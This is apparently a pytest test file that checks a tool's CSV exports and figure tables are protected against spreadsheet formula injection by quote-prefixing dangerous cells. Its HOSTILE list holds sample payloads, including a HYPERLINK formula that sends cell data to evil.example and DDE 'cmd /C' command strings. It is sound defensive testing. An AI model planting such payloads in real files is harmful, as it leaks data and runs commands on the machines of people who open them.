"""CSV formula injection (issue 15, probe 6): label text such as ``=HYPERLINK(...)``, ``@SUM(...)``, ``+1+1`` used to
be written raw into ``annex.csv``, ``flowgraph_nodes.csv`` and the CSV export. Every text cell a spreadsheet would
evaluate is now prefixed with a quote; plain numbers (negative ones included) stay numbers."""

from __future__ import annotations

import copy
import csv
import json
from pathlib import Path
from typing import Any

import pytest

from tests.figures.helpers import SAMPLE
from tracer.csvsafe import safe_cell
from tracer.exporters import write_export
from tracer.figures.render import render_case

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
           "\t=1+1", "\r=1+1", "=cmd|' /C notepad'!'A1'"]


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\n=1"), ("a\rb", "a\nb"), ("-A1", "'-A1"), ("-", "'-"), ("-5", "-5"), ("-0.25", "-0.25"), ("+1e3", "+1e3"),
    ("12", "12"), ("Binance 14", "Binance 14"), ("a=b", "a=b"), ("", ""), (-5, -5), (None, None),
])
def test_cells(cell: Any, written: Any) -> None:
    assert safe_cell(cell) == written


def _plant(doc: dict[str, Any]) -> dict[str, Any]:
    doc = copy.deepcopy(doc)
    for i, address in enumerate(doc["addresses"]):
        text = HOSTILE[i % len(HOSTILE)]
        address["labels"] = [{"category": "exchange", "confidence": 0.9, "label": text, "source": text}]
    for i, endpoint in enumerate(doc["endpoints"]):
        endpoint["service"] = HOSTILE[i % len(HOSTILE)]
    return doc


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _assert_inert(path: Path) -> None:
    for cell in _cells(path):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path.name, cell)
        if cell.startswith("-"):
            float(cell)  # only a plain negative number may begin with '-'


def test_export_csv_tables_are_inert(tmp_path: Path) -> None:
    doc = _plant(json.loads(SAMPLE.read_text(encoding="utf-8")))
    written = write_export(doc, "csv", tmp_path / "out")
    assert written
    for path in written:
        _assert_inert(path)
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in _cells(tmp_path / "out" / "endpoints.csv")


def test_figure_tables_and_annex_are_inert(tmp_path: Path) -> None:
    doc = _plant(json.loads(SAMPLE.read_text(encoding="utf-8")))
    result = render_case(doc, tmp_path / "fig", static=False)
    tables = sorted((tmp_path / "fig").glob("*.csv"))
    assert {"annex.csv", "flowgraph_nodes.csv"} <= {p.name for p in tables}, result.files
    for path in tables:
        _assert_inert(path)
    nodes = _cells(tmp_path / "fig" / "flowgraph_nodes.csv") + _cells(tmp_path / "fig" / "annex.csv")
    assert any(cell.startswith("'=HYPERLINK") or cell.startswith("'@SUM") or cell.startswith("'+1+1")
               for cell in nodes)
